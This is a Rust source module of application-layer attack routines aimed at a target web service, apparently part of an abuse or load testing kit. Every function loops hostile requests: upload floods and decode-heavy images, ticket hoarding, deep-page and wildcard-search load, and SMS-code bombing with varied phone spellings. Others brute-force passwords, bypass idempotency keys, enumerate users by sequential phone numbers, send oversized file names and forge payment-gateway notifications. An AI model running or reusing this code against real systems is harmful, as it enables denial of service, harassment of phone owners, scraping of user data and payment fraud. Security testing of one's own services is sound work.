//! Attacks by calls of the APIs.

use miaohui_testkit::png;
use reqwest::multipart::{Form, Part};
use serde_json::{Value, json};

use super::target::Target;

/// Uploads files that nobody waits for.
pub async fn files_of_strangers(target: Target, n: u8) {
    let http = Target::client(n);
    let picture = vec![0x89; 4 << 20];
    for path in ["/community/upload", "/api/image/", "/console/sign-in"].iter().cycle() {
        if target.is_over() {
            return;
        }
        let file = Part::bytes(picture.clone()).file_name("288c016b-6e19-46aa-8025-f5fdac727cb6.jpg");
        let form = Form::new().part("file", file).text("type", "0");
        let _ = http.post(target.url(path)).multipart(form).send().await;
    }
}

pub async fn reserve_all(target: Target, n: u8) {
    let http = Target::client(n);
    for ticket in target.tickets.iter().cycle() {
        if target.is_over() {
            return;
        }
        let params = json!({ "token": target.token(n), "ticket_id_list": [ticket] });
        target.call(&http, "order_create", &params).await;
    }
}

pub async fn deep_pages(target: Target, n: u8) {
    let http = Target::client(n);
    while !target.is_over() {
        for offset in [10_000, 1_900_000] {
            let params = json!({ "token": target.token(n), "offset": offset });
            target.call(&http, "article_list", &params).await;
        }
        let _ = http.get(target.url("/api/crowdfunding/?page=100000")).send().await;
    }
}

pub async fn searches(target: Target, n: u8) {
    let http = Target::client(n);
    while !target.is_over() {
        let _ = http.get(target.url("/api/crowdfunding/?search=%25_%25_%25&ordering=-id")).send().await;
        let _ = http.get(target.url("/api/location/?search=%E5%8C%BA&page=100")).send().await;
    }
}

pub async fn codes(target: Target, n: u8) {
    let http = Target::client(n);
    let spellings = [("86", ""), ("+86", ""), ("086", "0"), ("0086", ""), ("8", "6")];
    for (country, start) in spellings.iter().cycle() {
        if target.is_over() {
            return;
        }
        let params = json!({ "country": country, "phone": format!("{start}{}", target.phone) });
        target.call(&http, "send_sms_code", &params).await;
    }
}

pub async fn wrong_passwords(target: Target, n: u8) {
    let http = Target::client(n);
    while !target.is_over() {
        let params = json!({ "country": "86", "phone": target.phone, "password": "wrong" });
        target.call(&http, "user_login", &params).await;
    }
}

pub async fn new_keys(target: Target, n: u8) {
    let http = Target::client(n);
    let mut number = 0;
    while !target.is_over() {
        number += 1;
        let params = json!({ "token": target.token(n), "ticket_id_list": [0] }).to_string();
        let request = http.post(target.url("/community/order_create")).body(params);
        let _ = request.header("idempotency-key", format!("{n}-{number}")).send().await;
    }
}

pub async fn look_ups(target: Target, n: u8) {
    let http = Target::client(n);
    for number in 0_u32.. {
        if target.is_over() {
            return;
        }
        let phone = format!("139{number:08}");
        let params = json!({ "token": target.token(n), "country": "86", "phone": phone });
        target.call(&http, "user_info", &params).await;
    }
}

/// Uploads pictures that are small to send and large to decode.
pub async fn large_pictures(target: Target, n: u8) {
    let http = Target::client(n);
    let picture = png(n, 4000, 3000);
    while !target.is_over() {
        let params = json!({ "token": target.token(n) }).to_string();
        let Ok(reply) = http.post(target.url("/community/get_media_id")).body(params).send().await else {
            continue;
        };
        let reply: Value = reply.json().await.unwrap();
        let Some(media_id) = reply["media_id"].as_str().map(str::to_owned) else { continue };
        let file = Part::bytes(picture.clone()).file_name(format!("{media_id}.jpg"));
        let form = Form::new().part("file", file).text("media_id", media_id);
        let _ = http.post(target.url("/community/upload")).multipart(form).send().await;
    }
}

pub async fn long_names(target: Target, n: u8) {
    let http = Target::client(n);
    let name = format!("288c016b-6e19-46aa-8025-f5fdac727cb6.{}", "j".repeat(60_000));
    while !target.is_over() {
        let params = json!({ "token": target.token(n), "content": "x", "images": [name, name, name] });
        target.call(&http, "article_publish", &params).await;
    }
}

pub async fn forged_notices(target: Target, n: u8) {
    let http = Target::client(n);
    while !target.is_over() {
        for channel in ["sandbox", "alipay", "wechat"] {
            let url = target.url(&format!("/pay/{channel}/notify"));
            let _ = http.post(url).body("out_trade_no=m1&sign=AAAA&sign_type=RSA2").send().await;
        }
    }
}
